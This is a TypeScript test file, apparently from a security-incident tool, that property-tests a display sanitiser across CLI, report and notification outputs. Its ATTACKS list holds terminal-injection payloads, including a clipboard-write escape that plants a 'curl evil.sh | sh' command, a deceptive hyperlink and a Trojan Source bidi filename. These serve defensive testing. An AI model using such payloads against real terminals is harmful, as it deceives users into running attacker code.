import { PassThrough } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { printText } from '../../../src/cli/context.js';
import { buildIncidentReport } from '../../../src/daemon/incidents/report-data.js';
import { renderIncidentReportMarkdown } from '../../../src/daemon/incidents/report-markdown.js';
import { NotifyTemplate } from '../../../src/daemon/notify/outbox.js';
import { render as renderNotification } from '../../../src/daemon/notify/templates.js';
import type { ReportDoc } from '../../../src/daemon/reports/document.js';
import { renderDoc } from '../../../src/daemon/reports/render/render.js';
import { displaySafe, displaySafeDeep } from '../../../src/shared/display-safe.js';
import type { Incident } from '../../../src/shared/incident.js';
import { fit } from '../../../src/shared/text.js';

/** Every code point a terminal or a bidi renderer acts on. */
const CONTROLS = [
  ...Array.from({ length: 0x20 }, (_, i) => i),
  ...Array.from({ length: 0x21 }, (_, i) => 0x7f + i),
  0x061c,
  0x200e,
  0x200f,
  ...Array.from({ length: 5 }, (_, i) => 0x202a + i),
  ...Array.from({ length: 4 }, (_, i) => 0x2066 + i),
].map((cp) => String.fromCodePoint(cp));

/** Real attacks from the issue: clipboard write, screen clear, hyperlink, colour, one-byte C1 CSI, Trojan Source. */
const ATTACKS = ['\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', '\x1b[2J\x1b[H', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', '\x1b[31;1mFAKE\x1b[0m', '\u009b2J', 'admin\u202e\u2066txt.exe'];

/** Anything that would act on a terminal; newlines and tabs are allowed only where `layout` says so. */
function actsOnTerminal(out: string, layout: boolean): boolean {
  return [...out].some((ch) => CONTROLS.includes(ch) && !(layout && (ch === '\n' || ch === '\t')));
}

const hostile = fc.array(fc.oneof(fc.constantFrom(...CONTROLS, ...ATTACKS), fc.string({ maxLength: 6 })), { maxLength: 12 }).map((parts) => parts.join(''));

function doc(s: string): ReportDoc {
  return {
    title: s,
    subtitle: s,
    lang: 'en',
    meta: [[s, s]],
    sections: [
      {
        title: s,
        blocks: [
          { type: 'paragraph', text: s },
          { type: 'metrics', items: [{ label: s, value: s, note: s }] },
          { type: 'table', columns: [s], rows: [[s]], empty: s },
          { type: 'list', items: [s] },
          { type: 'callout', tone: 'warn', text: s },
          { type: 'chart', title: s, chart: { type: 'bar', stacked: false, horizontal: false, categories: [s], series: [{ name: s, values: [1] }] } },
        ],
      },
    ],
    footer: s,
  };
}

function incident(s: string): Incident {
  const at = '2026-11-25T01:00:00.000Z';
  return {
    id: 'INC-20261125-AB12',
    customer: s,
    title: s,
    type: 'web-trojan',
    severity: 'high',
    status: 'open',
    owner: s,
    impact: s,
    linkedAlerts: ['a1'],
    absorbedAlerts: [],
    links: [],
    observables: [{ kind: 'ip', value: s, source: 'alert:a1', addedBy: s, addedAt: at }],
    timeline: [{ at, actor: s, kind: 'note', text: s }],
    checklist: [],
    loss: s,
    rootCause: s,
    hardening: [s],
    createdBy: s,
    createdAt: at,
    openedAt: at,
    updatedAt: at,
    rev: 1,
  } as Incident;
}

function printed(s: string): string {
  const sink = new PassThrough();
  printText(s, sink);
  return String(sink.read() ?? '');
}

/** Each human-facing sink, with whether it may keep line layout. */
const SINKS: [string, (s: string) => string, boolean][] = [
  ['TUI/CLI table cell (fit)', (s) => fit(s, 40), false],
  ['CLI text output (printText)', printed, true],
  ['TUI data from the daemon (displaySafeDeep)', (s) => JSON.stringify(Object.values(displaySafeDeep({ [s]: { v: [s] } }))) + Object.keys(displaySafeDeep({ [s]: 1 }))[0], true],
  ['Markdown report', (s) => renderDoc(doc(s), 'md'), true],
  ['HTML report', (s) => renderDoc(doc(s), 'html'), true],
  ['incident report', (s) => renderIncidentReportMarkdown(buildIncidentReport(incident(s), { alert: () => undefined, playbook: undefined, now: '2026-11-25T05:00:00.000Z', actor: s })), true],
  [
    'notification',
    (s) => {
      const m = renderNotification(
        { template: NotifyTemplate.SlaBreach, dedupKey: 'k', vars: { kind: 'alert', item: s, title: s, customer: s, severity: s, dueAt: s, remaining: s, onDuty: s, phase: s } },
        'en',
        [],
      );
      return m.title + m.markdown;
    },
    true,
  ],
];

describe('display sanitiser', () => {
  it('shows every control and bidi code point as a visible escape, and leaves printable text alone', () => {
    for (const ch of CONTROLS) {
      const out = displaySafe(`a${ch}b`);
      expect(out).toMatch(/^a\\(x[0-9a-f]{2}|u[0-9a-f]{4})b$/);
    }
    expect(displaySafe('\x1b[2J')).toBe('\\x1b[2J');
    expect(displaySafe('\u009b31m')).toBe('\\x9b31m');
    expect(displaySafe('x\u202ey')).toBe('x\\u202ey');
    expect(displaySafe('a\nb\tc', { keepLayout: true })).toBe('a\nb\tc');
    expect(displaySafe('a\rb', { keepLayout: true })).toBe('a\\x0db');
    expect(displaySafe('正常 text ✓ émoji 🙂')).toBe('正常 text ✓ émoji 🙂');
  });

  it('returns the same object when nothing needs a change, and copies only what changed', () => {
    const clean = { a: ['x', { b: 'y' }], n: 1 };
    expect(displaySafeDeep(clean)).toBe(clean);
    const dirty = { a: ['x', { b: '\x1b' }], keep: { c: 'z' } };
    const out = displaySafeDeep(dirty);
    expect(out).toEqual({ a: ['x', { b: '\\x1b' }], keep: { c: 'z' } });
    expect(out.keep).toBe(dirty.keep);
    expect(dirty.a[1]).toEqual({ b: '\x1b' });
  });

  it.each(SINKS)('%s: no control code point reaches the output, whatever the input', (_name, sink, layout) => {
    for (const ch of CONTROLS) expect(actsOnTerminal(sink(`t${ch}t`), layout)).toBe(false);
    for (const attack of ATTACKS) expect(actsOnTerminal(sink(attack), layout)).toBe(false);
    fc.assert(
      fc.property(hostile, (s) => !actsOnTerminal(sink(s), layout)),
      { numRuns: 150 },
    );
  });

  it('fails loudly when a sink would let an escape through (the check itself can fail)', () => {
    expect(actsOnTerminal('ok \x1b[2J', true)).toBe(true);
    expect(actsOnTerminal('ok \n', false)).toBe(true);
  });
});
